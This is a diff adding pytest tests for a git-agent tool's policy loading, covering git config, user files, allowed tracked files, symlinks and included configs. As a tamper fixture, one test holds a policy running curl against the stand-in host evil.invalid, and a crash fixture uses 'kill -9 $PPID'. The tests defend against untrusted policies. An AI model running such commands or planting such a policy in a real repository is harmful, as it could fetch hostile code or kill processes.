@@ -1,0 +1,101 @@
+"""Where policies come from: git's configuration, the person's files, and tracked ones once they were allowed."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from support.cli import Cli
+
+CRASH = "kill -9 $PPID"
+
+
+def policies(cli: Cli, text: str) -> None:
+    path = cli.home / ".config/git-agent/policies.toml"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text)
+
+
+SETTINGS = {
+    "a word": ("agent.onDead", "resume", 2),
+    "a table": ("agent.onDead", '{ action = "resume", attempts = 2 }', 2),
+    "wins over the file": ("agent.onDead", "fail", 1),
+}
+
+
+@pytest.mark.parametrize(("key", "value", "attempts"), SETTINGS.values(), ids=SETTINGS)
+def test_git_config_has_policies_too(cli: Cli, key: str, value: str, attempts: int) -> None:
+    cli.begin(FAKE_CMD=CRASH)
+    policies(cli, 'on_dead = "resume"' if value == "fail" else 'on_dead = "fail"')
+    cli.repo.git("config", key, value)
+    cli.run("watch")
+    assert cli.record().attempts == attempts
+
+
+def test_a_policy_of_the_repository_wins_over_the_persons(cli: Cli) -> None:
+    cli.begin(FAKE_CMD=CRASH)
+    policies(cli, 'on_dead = "fail"\non_error = "fail"')
+    (Path(cli.layout.root) / "policies.toml").write_text('on_dead = "resume"')
+    cli.ok("watch")
+    assert cli.record().attempts == 2
+
+
+def test_a_tracked_file_counts_once_it_was_allowed(cli: Cli) -> None:
+    cli.begin(FAKE_CMD=CRASH)
+    path = cli.repo.path / "team.toml"
+    path.write_text('on_dead = { action = "resume", message = "as the team says", append = true }')
+    assert cli.run("watch", "--json").json["error"]["code"] == "no_policy"
+    shown = cli.ok("allow", "team.toml")
+    assert shown.out == 'on_dead: resume, says: "as the team says"\n'
+    cli.ok("watch")
+    assert cli.calls()[1]["stdin"] == "as the team says"
+
+
+def test_a_tracked_file_that_changed_counts_no_more(cli: Cli) -> None:
+    cli.begin(FAKE_CMD=CRASH)
+    path = cli.repo.path / "team.toml"
+    path.write_text('on_dead = "fail"')
+    cli.ok("allow", "team.toml")
+    path.write_text('on_dead = { action = "gate", run = ["curl", "evil.invalid"] }')
+    done = cli.run("watch")
+    assert (done.status, done.lines) == (
+        128,
+        [
+            "fatal: 'team.toml' is not what it was when you allowed it",
+            "hint: read it, then: git agent allow team.toml",
+            "hint: or do without it: git agent allow --none",
+        ],
+    )
+    cli.ok("allow", "--none")
+    assert cli.run("watch", "--json").json["error"]["code"] == "no_policy"
+
+
+def test_a_link_into_the_work_tree_is_no_way_around(cli: Cli) -> None:
+    cli.begin(FAKE_CMD=CRASH)
+    (cli.repo.path / "team.toml").write_text('on_dead = "resume"')
+    os.symlink(cli.repo.path / "team.toml", Path(cli.layout.root) / "policies.toml")
+    assert cli.run("watch", "--json").json["error"]["code"] == "policy_in_repository"
+    assert cli.record().attempts == 1
+
+
+def test_settings_of_an_included_tracked_file_are_refused(cli: Cli) -> None:
+    (cli.repo.path / "team.config").write_text("[agent]\n\tonDead = resume\n")
+    cli.repo.git("config", "include.path", "../team.config")
+    assert cli.run("watch", "--json").json["error"]["code"] == "untrusted_setting"
+
+
+MISTAKES: dict[str, tuple[list[str], int, str]] = {
+    "nothing": (["allow"], 129, "give the file to allow, or --none"),
+    "both": (["allow", "--none", "x"], 129, "give the file to allow, or --none"),
+    "no file": (["allow", "missing.toml"], 128, "No such file or directory"),
+    "a folder": (["allow", "."], 128, "Is a directory"),
+    "elsewhere": (["allow", "/etc/hostname"], 128, "is not in this work tree"),
+}
+
+
+@pytest.mark.parametrize(("words", "status", "text"), MISTAKES.values(), ids=MISTAKES)
+def test_mistakes_with_allow(cli: Cli, words: list[str], status: int, text: str) -> None:
+    done = cli.run(*words)
+    assert (done.status, text in done.lines[0]) == (status, True), done
